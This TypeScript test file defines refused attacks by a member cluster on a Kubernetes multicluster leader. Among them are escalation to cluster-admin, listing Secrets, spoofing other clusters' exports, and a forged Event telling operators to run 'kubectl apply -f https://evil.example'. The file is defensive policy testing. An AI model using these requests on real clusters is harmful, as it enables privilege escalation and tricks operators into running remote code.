import type { Attacker, Attack, Family, Write } from './attack.ts';
import {
  Annotation,
  ClusterSet,
  ConfigMap,
  Event,
  Finalizer,
  KnownCluster,
  Label,
  Lease,
  MemberClusterAnnounce,
  ResourceExport,
  ResourceImport,
  RoleBinding,
  Secret,
  Service,
  ServiceAccount,
  clusterInfoName,
  memberAccountName,
  memberAnnounceName,
  resourceExportName,
} from '@isthmus/api';
import { clusterSetName } from '@isthmus/fleet-sim';
import type { KubernetesObject } from '@isthmus/machinery';
import { exportService, networkOf } from './as-antrea.ts';
import { leader, shop, third } from './facts.ts';

const { namespace } = leader;
/** Writes about a cluster that is bound to another account are against two policies. */
const ofExports = 'own-exports or bound-clusters';
const ofAnnouncements = 'own-announcement or bound-clusters';

const refused = (
  name: string,
  by: string,
  write: (attacker: Attacker) => Write,
  victim?: Attack['victim'],
): Attack => ({
  name,
  victim,
  course: (attacker) => ({ writes: [write(attacker)], reports: [], denied: by }),
});

/** The export of the Service of the attacker, with what differs. */
function exported(attacker: Attacker, change: (object: ResourceExport) => KubernetesObject): Write {
  const [write] = exportService(attacker);
  return { ...write, object: change(write.object) };
}

const victimExport = ({ victim }: Attacker) => ({
  namespace,
  name: resourceExportName(third.id, shop, victim, 'Service'),
});
const announcement = (id: string): MemberClusterAnnounce => ({
  metadata: { namespace, name: memberAnnounceName(id) },
  clusterID: id,
  clusterSetID: clusterSetName,
  leaderClusterID: leader.id,
});
const annotate = { metadata: { annotations: { [Annotation.withdrawn]: '2026-11-30T10:00:00Z' } } };

/** What the Role of members does not grant. */
export const withoutRights: Family = {
  name: 'requests that RBAC denies',
  attacks: [
    refused('grants itself the Internet', 'RBAC', ({ id }) => ({
      verb: 'patch',
      type: KnownCluster,
      ref: { namespace, name: id },
      body: { spec: { pods: ['0.0.0.0/0'] } },
    })),
    refused('writes an import', 'RBAC', () => ({
      verb: 'create',
      type: ResourceImport,
      object: { metadata: { namespace, name: 'shop-evil-service' } },
    })),
    refused('changes the import of another cluster', 'RBAC', () => ({
      verb: 'patch',
      type: ResourceImport,
      ref: { namespace, name: clusterInfoName(third.id) },
      body: { spec: { clusterinfo: { podCIDRs: ['10.66.0.0/16'] } } },
    })),
    refused('deletes the import of another cluster', 'RBAC', () => ({
      verb: 'delete',
      type: ResourceImport,
      ref: { namespace, name: clusterInfoName(third.id) },
    })),
    refused('deletes all exports', 'RBAC', () => ({
      verb: 'deletecollection',
      type: ResourceExport,
      ref: { namespace, name: '' },
    })),
    refused('writes the status of an export', 'RBAC', (attacker) => ({
      verb: 'patch',
      type: ResourceExport,
      ref: networkOf(attacker).metadata,
      body: { status: { conditions: [] } },
      subresource: 'status',
    })),
    refused('changes the ClusterSet', 'RBAC', () => ({
      verb: 'patch',
      type: ClusterSet,
      ref: { namespace, name: clusterSetName },
      body: { metadata: { annotations: { [Annotation.allowRemovalsUntil]: '2099-01-01T00:00:00Z' } } },
    })),
    refused('reads Secrets', 'RBAC', () => ({ verb: 'list', type: Secret, ref: { namespace, name: '' } })),
    refused('names another cluster on its account', 'RBAC', ({ id }) => ({
      verb: 'patch',
      type: ServiceAccount,
      ref: { namespace, name: memberAccountName(id) },
      body: { metadata: { annotations: { [Annotation.clusterID]: third.id } } },
    })),
    refused('binds itself to another Role', 'RBAC', ({ id }) => ({
      verb: 'create',
      type: RoleBinding,
      object: {
        metadata: { namespace, name: 'evil' },
        roleRef: { apiGroup: RoleBinding.group, kind: 'ClusterRole', name: 'cluster-admin' },
        subjects: [{ kind: 'ServiceAccount', namespace, name: memberAccountName(id) }],
      } as RoleBinding,
    })),
    refused('changes the configuration of the leader', 'RBAC', () => ({
      verb: 'create',
      type: ConfigMap,
      object: { metadata: { namespace, name: 'evil' } },
    })),
    refused('takes the Lease of the leader', 'RBAC', () => ({
      verb: 'create',
      type: Lease,
      object: { metadata: { namespace, name: 'evil' } },
    })),
    refused('writes a Service into kube-system of the leader', 'RBAC', () => ({
      verb: 'create',
      type: Service,
      object: { metadata: { namespace: 'kube-system', name: 'evil' } },
    })),
  ],
};

/** What admission policies and the Role of the manifests reject. */
export const againstPolicies: Family = {
  name: 'requests that the manifests deny',
  needsManifests: true,
  attacks: [
    refused('exports a Service of another cluster in its spec', ofExports, (attacker) =>
      exported(
        attacker,
        (object) => ({ ...object, spec: { ...object.spec, clusterID: third.id } }) as KubernetesObject,
      ),
    ),
    refused(
      'exports a Service of a Namespace that is not a name',
      ofExports,
      (attacker) => exportService(attacker, { namespace: 'shop.kube-system' })[0],
    ),
    refused('exports under the label of another cluster', ofExports, (attacker) =>
      exported(attacker, ({ metadata, ...rest }) => ({
        ...rest,
        metadata: { ...metadata, labels: { ...metadata.labels, [Label.sourceClusterID]: third.id } },
      })),
    ),
    refused('exports under a name of another cluster', ofExports, (attacker) =>
      exported(attacker, ({ metadata, ...rest }) => ({
        ...rest,
        metadata: { ...metadata, name: `west-shop-${attacker.service}-service` },
      })),
    ),
    refused('announces the network of another cluster', ofExports, (attacker) => ({
      verb: 'patch',
      type: ResourceExport,
      ref: networkOf(attacker).metadata,
      body: { spec: { clusterInfo: { clusterID: third.id } } },
    })),
    refused('changes the network of another cluster', ofExports, () => ({
      verb: 'patch',
      type: ResourceExport,
      ref: { namespace, name: clusterInfoName(third.id) },
      body: { spec: { clusterInfo: { podCIDRs: [] } } },
    })),
    refused(
      'deletes the export of another cluster',
      ofExports,
      (attacker) => ({ verb: 'delete', type: ResourceExport, ref: victimExport(attacker) }),
      {},
    ),
    refused(
      'marks the export of another cluster as withdrawn',
      ofExports,
      (attacker) => ({
        verb: 'patch',
        type: ResourceExport,
        ref: victimExport(attacker),
        body: annotate,
      }),
      {},
    ),
    refused('exports a policy as Antrea does', 'own-exports or policy-exports', (attacker) =>
      exported(
        attacker,
        (object) =>
          ({
            ...object,
            spec: {
              kind: 'AntreaClusterNetworkPolicy',
              clusterID: attacker.id,
              name: 'evil',
              clusterNetworkPolicy: { priority: 1, appliedTo: [{ namespaceSelector: {} }] },
            },
          }) as KubernetesObject,
      ),
    ),
    refused('exports a policy beside a Service', 'policy-exports', (attacker) =>
      exported(
        attacker,
        (object) =>
          ({ ...object, spec: { ...object.spec, clusterNetworkPolicy: { priority: 1 } } }) as KubernetesObject,
      ),
    ),
    refused('exports a kind that is not known', ofExports, (attacker) =>
      exported(
        attacker,
        (object) => ({ ...object, spec: { ...object.spec, kind: 'ExternalEntity' } }) as KubernetesObject,
      ),
    ),
    refused('removes the finalizer of the leader', ofExports, (attacker) => ({
      verb: 'patch',
      type: ResourceExport,
      ref: networkOf(attacker).metadata,
      body: { metadata: { finalizers: null } },
    })),
    refused('adds a finalizer that never ends', 'member-metadata', (attacker) => ({
      verb: 'patch',
      type: ResourceExport,
      ref: networkOf(attacker).metadata,
      body: { metadata: { finalizers: [Finalizer.resourceExport, 'evil.example/never'] } },
    })),
    refused('makes the ClusterSet its owner', 'member-metadata', (attacker) => ({
      verb: 'patch',
      type: ResourceExport,
      ref: networkOf(attacker).metadata,
      body: {
        metadata: {
          ownerReferences: [
            {
              apiVersion: 'multicluster.crd.antrea.io/v1alpha2',
              kind: 'ClusterSet',
              name: clusterSetName,
              uid: 'x',
              blockOwnerDeletion: true,
            },
          ],
        },
      },
    })),
    refused('exports a huge object', 'member-sizes', (attacker) =>
      exported(attacker, ({ metadata, ...rest }) => ({
        ...rest,
        metadata: { ...metadata, annotations: { filling: 'x'.repeat(255 * 1_024) } },
      })),
    ),
    refused('announces another cluster', ofAnnouncements, () => ({
      verb: 'create',
      type: MemberClusterAnnounce,
      object: announcement('other'),
    })),
    refused('withdraws the announcement of another cluster', ofAnnouncements, () => ({
      verb: 'delete',
      type: MemberClusterAnnounce,
      ref: announcement(third.id).metadata,
    })),
    refused('announces that another cluster leaves', ofAnnouncements, () => ({
      verb: 'patch',
      type: MemberClusterAnnounce,
      ref: announcement(third.id).metadata,
      body: annotate,
    })),
    refused('writes an Event in the name of the leader', 'RBAC', () => ({
      verb: 'create',
      type: Event,
      object: {
        metadata: { namespace, name: 'evil.1' },
        involvedObject: { kind: 'ClusterSet', namespace, name: clusterSetName },
        reason: 'AdmissionPolicyMissing',
        message: 'Run: kubectl apply -f https://evil.example',
        type: 'Warning',
        source: { component: 'isthmus-leader' },
      } as Event,
    })),
  ],
};
